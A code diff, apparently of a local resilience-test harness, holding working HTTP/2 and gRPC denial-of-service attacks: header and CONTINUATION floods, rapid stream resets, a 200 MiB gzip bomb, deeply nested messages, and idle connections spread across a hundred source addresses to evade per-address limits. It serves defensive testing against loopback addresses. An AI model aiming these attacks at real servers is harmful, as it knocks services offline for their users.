@@ -3,6 +3,7 @@
 Hostile connections come from addresses of their own (127.0.66.1 and up), so that limits by address can tell them from
 the good client. Nothing leaves this machine.
 """
+
 import contextlib
 import select
 import socket
@@ -18,7 +19,7 @@ class Target:
     """Where the harm goes: an address, how large it is to be (1: as the issue states it), and from how many sources."""
 
     def __init__(self, address, scale=1.0, sources=1, first_source=0):
-        self.address, self.scale, self.sources = address, scale, SOURCES[first_source:first_source + sources]
+        self.address, self.scale, self.sources = address, scale, SOURCES[first_source : first_source + sources]
 
     def times(self, count):
         return max(1, int(count * self.scale))
@@ -106,6 +107,11 @@ def batched(frames, size):
 
 
 def idle_connections(target):
+    """From a hundred addresses, so that no limit by address stops it."""
+    return idle_one_address(Target(target.address, target.scale, len(SOURCES)))
+
+
+def idle_one_address(target):
     with many(target, target.times(10000), h2.greeting()) as (plugs, refused):
         time.sleep(3)
         return f"{len(plugs)} made, {refused} refused, {sum(map(is_closed, plugs))} closed by the server"
@@ -116,6 +122,7 @@ def silent(greet, seconds=8):
         with many(target, target.times(1000), greet) as (plugs, refused):
             time.sleep(seconds * min(1.0, max(0.25, target.scale)))
             return f"{len(plugs)} made, {refused} refused, {sum(map(is_closed, plugs))} closed by the server"
+
     return attack
 
 
@@ -133,10 +140,12 @@ def non_reading(target):
 
 def header_block(stream, block):
     """HEADERS with as much of a block as fits, and CONTINUATION frames for the rest, one by one."""
-    parts = [block[i:i + h2.MAX_FRAME] for i in range(0, len(block), h2.MAX_FRAME)]
+    parts = [block[i : i + h2.MAX_FRAME] for i in range(0, len(block), h2.MAX_FRAME)]
     for i, part in enumerate(parts):
         flags = h2.END_HEADERS if i == len(parts) - 1 else 0
-        yield h2.frame(h2.HEADERS if i == 0 else h2.CONTINUATION, flags | (h2.END_STREAM if i == 0 else 0), stream, part)
+        yield h2.frame(
+            h2.HEADERS if i == 0 else h2.CONTINUATION, flags | (h2.END_STREAM if i == 0 else 0), stream, part
+        )
 
 
 def header_bomb_long(target):
@@ -145,7 +154,9 @@ def header_bomb_long(target):
 
 
 def header_bomb_many(target):
-    block = h2.call_headers(h2.SERVICE + "Search") + b"".join(h2.header(f"x-{i}", "a" * 20) for i in range(target.times(200000)))
+    block = h2.call_headers(h2.SERVICE + "Search") + b"".join(
+        h2.header(f"x-{i}", "a" * 20) for i in range(target.times(200000))
+    )
     return push(target, header_block(1, block))
 
 
@@ -164,7 +175,9 @@ def continuation_flood(target):
 def reset_flood(target):
     """Calls that are taken back as soon as they are begun."""
     block = h2.call_headers(h2.SERVICE + "Search")
-    frames = (h2.frame(h2.HEADERS, h2.END_HEADERS, s, block) + h2.rst_stream(s) for s in range(1, 2 * target.times(50000), 2))
+    frames = (
+        h2.frame(h2.HEADERS, h2.END_HEADERS, s, block) + h2.rst_stream(s) for s in range(1, 2 * target.times(50000), 2)
+    )
     return push(target, batched(frames, 100)) + " (batches of 100)"
 
 
@@ -199,7 +212,10 @@ def gzip_bomb(target):
     maker = zlib.compressobj(9, zlib.DEFLATED, 31)
     zeros = bytes(1 << 20)
     bomb = b"".join(maker.compress(zeros) for _ in range(200)) + maker.flush()
-    frames = [h2.call(s, "Search", bomb, [("grpc-encoding", "gzip")], compressed=True) for s in range(1, 2 * target.times(16), 2)]
+    frames = [
+        h2.call(s, "Search", bomb, [("grpc-encoding", "gzip")], compressed=True)
+        for s in range(1, 2 * target.times(16), 2)
+    ]
     greet = h2.greeting() + h2.window_update(0, 2**30)
     return push(target, frames, greet) + f" ({len(bomb)} bytes each, for 200 MiB)"
 
@@ -210,14 +226,16 @@ def oversized_message(target):
     frames = []
     for stream in range(1, 2 * target.times(20), 2):
         frames.append(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(h2.SERVICE + "Search")))
-        frames.append(h2.frame(h2.DATA, 0, stream, body[:h2.MAX_FRAME]))
+        frames.append(h2.frame(h2.DATA, 0, stream, body[: h2.MAX_FRAME]))
     return push(target, frames, seconds=10) + f" (first frames of calls of {len(body)} bytes)"
 
 
 def nested_message(target):
     """Groups in groups, in a field that nobody knows: 150 levels, and 100,000 as far as the window goes."""
+
     def groups(levels):
         return h2.field(1, "strike") + b"\xa3\x06" * levels + b"\xa4\x06" * levels
+
     frames = [h2.call(s, "Search", groups(150)) for s in range(1, 2 * target.times(20), 2)]
     frames += [h2.call(1001, "Search", groups(15000))]
     return push(target, frames)
@@ -268,10 +286,13 @@ def churn(target):
 ATTACKS = dict(
     calm=lambda target: time.sleep(3 * target.scale) or "nothing",
     idle_connections=idle_connections,
+    idle_one_address=idle_one_address,
     silent_tcp=silent(b""),
     silent_half_preface=silent(h2.PREFACE[:10]),
     silent_preface=silent(h2.PREFACE),
-    silent_half_call=silent(h2.greeting() + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call_headers(h2.SERVICE + "Search"))),
+    silent_half_call=silent(
+        h2.greeting() + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call_headers(h2.SERVICE + "Search"))
+    ),
     non_reading=non_reading,
     header_bomb_long=header_bomb_long,
     header_bomb_many=header_bomb_many,
